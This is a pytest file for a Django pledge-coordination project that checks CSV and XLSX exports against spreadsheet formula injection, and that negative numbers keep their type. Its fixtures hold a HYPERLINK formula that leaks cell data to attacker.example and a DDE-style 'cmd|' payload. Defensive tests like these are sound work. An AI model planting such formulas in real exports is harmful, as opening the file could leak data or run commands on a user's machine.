"""Issue 13 §5: spreadsheet formulas never pass between nations. Every CSV and XLSX the project writes
(API ``?format=csv``, dashboard downloads, admin exports) neutralises a text cell starting with ``=``,
``+``, ``-``, ``@``, tab or carriage return (a leading ``'``); numbers, negative ones included, stay numbers."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from import_export.admin import ExportMixin

from coordination.api.tokens import token_issue
from coordination.resources import SafeExportResource
from coordination.spreadsheet import spreadsheet_cell
from tests import factories
from tests.admin.helpers import export
from tests.api.conftest import client_with
from web.dashboard.exports import table_dataset
from web.dashboard.tables import Column, Table

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://attacker.example/?leak="&A2,"x")'


@pytest.mark.parametrize("value,expected", [
    (ATTACK, "'" + ATTACK), ("+1+cmd", "'+1+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("", ""),
    ("-5", "-5"), ("-1,250.50", "-1,250.50"), ("+3", "+3"), (-5, -5), (-1.5, -1.5), (None, None),
])
def test_the_one_rule(value, expected):
    assert spreadsheet_cell(value) == expected


def test_api_csv_neutralises_another_nations_public_pledge(nations, item):
    factories.PledgeFactory(donor=nations["USA"], item=item, quantity=10, releasability="public", reference=ATTACK,
                            notes="@SUM(1+1)*cmd|' /C calc'!A0")
    pol = client_with(token_issue(nation=nations["POL"], name="POL")[1])
    response = pol.get("/api/v1/pledges/?format=csv")
    assert response.status_code == 200
    row = list(csv.DictReader(io.StringIO(response.content.decode())))[0]
    assert row["reference"] == "'" + ATTACK
    assert row["notes"].startswith("'@SUM")
    assert row["quantity"] == "10"


def test_api_csv_keeps_negative_numbers():
    from coordination.api.renderers import CSVRenderer

    body = CSVRenderer().render({"results": [{"available": -40, "value_eur": "-12.50", "ratio": -0.5,
                                              "reference": "-x"}]}).decode()
    assert list(csv.DictReader(io.StringIO(body))) == [
        {"available": "-40", "value_eur": "-12.50", "ratio": "-0.5", "reference": "'-x"}]


def _table():
    return Table(key="t", title="T", columns=[Column("name", "Name", "text"), Column("n", "N", "int")],
                 rows=[[ATTACK, -7], ["-1+1", 3]])


def test_dashboard_exports_neutralise_text_and_keep_numbers():
    data = table_dataset(_table())
    assert list(data) == [("'" + ATTACK, -7), ("'-1+1", 3)]
    sheet = openpyxl.load_workbook(io.BytesIO(data.export("xlsx"))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1] == ("'" + ATTACK, -7)  # text, not a formula; the number a number
    assert sheet.cell(row=2, column=1).data_type == "s"


def test_dashboard_pledges_download(client, coordinator, nations):
    evil = factories.ItemFactory(name=ATTACK)
    factories.PledgeFactory(donor=nations["USA"], item=evil, quantity=10, releasability="public")
    client.force_login(coordinator)
    for fmt in ("csv", "xlsx"):
        response = client.get("/pledges/", {"export": fmt, "table": "pledges"})
        assert response.status_code == 200
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        else:
            rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
        assert rows[1][2] == "'" + ATTACK


def test_admin_exports_neutralise(coordinator, nations):
    from django.test import Client

    factories.PledgeFactory(donor=nations["USA"], item=factories.ItemFactory(name="-cmd"), quantity=10,
                            reference=ATTACK)
    client = Client()
    client.force_login(coordinator)
    content = export(client, "pledges", "pledge", "csv").decode("utf-8-sig")
    assert "'" + ATTACK.replace('"', '""') in content
    assert ",=HYPERLINK" not in content and '"=HYPERLINK' not in content


def test_every_admin_export_uses_the_safe_resource():
    exporting = [(model, model_admin) for model, model_admin in admin.site._registry.items()
                 if isinstance(model_admin, ExportMixin)]
    assert exporting
    for model, model_admin in exporting:
        for resource in model_admin.get_export_resource_classes(None):
            assert issubclass(resource, SafeExportResource), (model, resource)
